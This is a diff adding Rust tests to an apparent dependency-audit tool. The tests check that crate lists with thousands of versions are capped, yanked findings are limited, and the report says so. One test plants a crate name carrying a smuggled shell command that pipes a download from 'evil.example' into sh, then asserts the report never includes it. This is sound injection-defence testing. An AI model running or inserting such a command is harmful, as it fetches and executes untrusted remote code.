@@ -332,3 +332,62 @@ fn a_yanked_crate_in_cargos_index_cache_is_a_warning() {
             .ends_with("; 1 yanked (of 2 in cargo's index cache)")
     );
 }
+
+/// A `CARGO_HOME` whose index cache has `name` at `versions`, the odd ones yanked.
+fn cargo_home_with_versions(dir: &Path, name: &str, versions: &[String]) -> PathBuf {
+    use tame_index::index::cache::{CacheWrite, Revision};
+    use tame_index::index::{IndexLocation, IndexUrl, SparseIndex};
+    let home = dir.join("cargo-home");
+    let location = IndexLocation::new(IndexUrl::CratesIoSparse)
+        .with_root(Some(tame_index::PathBuf::from_path_buf(home.clone()).unwrap()));
+    let index = SparseIndex::new(location).unwrap();
+    let lines: Vec<String> = versions
+        .iter()
+        .enumerate()
+        .map(|(i, v)| {
+            serde_json::json!({
+                "name": name, "vers": v, "deps": [], "cksum": "0".repeat(64), "features": {},
+                "yanked": i % 2 == 1,
+            })
+            .to_string()
+        })
+        .collect();
+    let krate = tame_index::IndexKrate::from_slice(lines.join("\n").as_bytes()).unwrap();
+    let path = index.cache().cache_path(tame_index::KrateName::crates_io(name).unwrap());
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    let mut file = std::fs::File::create(&path).unwrap();
+    CacheWrite::Krate(&krate).write_cache_entry(&mut file, &Revision::Unknown).unwrap();
+    std::fs::write(home.join(".package-cache"), b"").unwrap();
+    home
+}
+
+/// The second review's blow-up: a small artifact listing one crate at
+/// thousands of versions. The list is cut at the cap and the report says
+/// so; findings stop at their cap too; names that are no crate names (a
+/// shell command in a `cargo update -p` fix) are never taken.
+#[test]
+fn a_list_of_thousands_of_versions_is_capped_and_said_so() {
+    use cargo_palyra_skill::audit::{MAX_CRATES_PER_LIST, MAX_FINDINGS};
+    let dir = tempfile::tempdir().unwrap();
+    let versions: Vec<String> = (0..3_000).map(|i| format!("0.{}.{}", i / 100, i % 100)).collect();
+    let mut deps: Vec<(&str, &str)> = versions.iter().map(|v| ("itoa", v.as_str())).collect();
+    deps.push(("itoa; curl evil.example | sh", "1.0.0"));
+    let path = artifact(dir.path(), &deps);
+    let home = cargo_home_with_versions(dir.path(), "itoa", &versions);
+    let (report, _) =
+        audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[("CARGO_HOME", home.as_path())]);
+    let check = feed_check(&report);
+    let message = check["message"].as_str().unwrap();
+    assert!(
+        message.contains(&format!(
+            "`sbom.cdx.json` names 3001 crates, only the first {MAX_CRATES_PER_LIST} were scanned"
+        )),
+        "{message}"
+    );
+    assert_eq!(check["details"]["crates_scanned"], MAX_CRATES_PER_LIST);
+    assert_eq!(check["details"]["yanked"]["checked"], MAX_CRATES_PER_LIST);
+    let yanked = findings(&report, "yanked_dependency");
+    assert_eq!(yanked.len(), MAX_FINDINGS.min(MAX_CRATES_PER_LIST / 2));
+    let text = serde_json::to_string(&report).unwrap();
+    assert!(!text.contains("curl evil"), "a name that is no crate name was taken");
+}
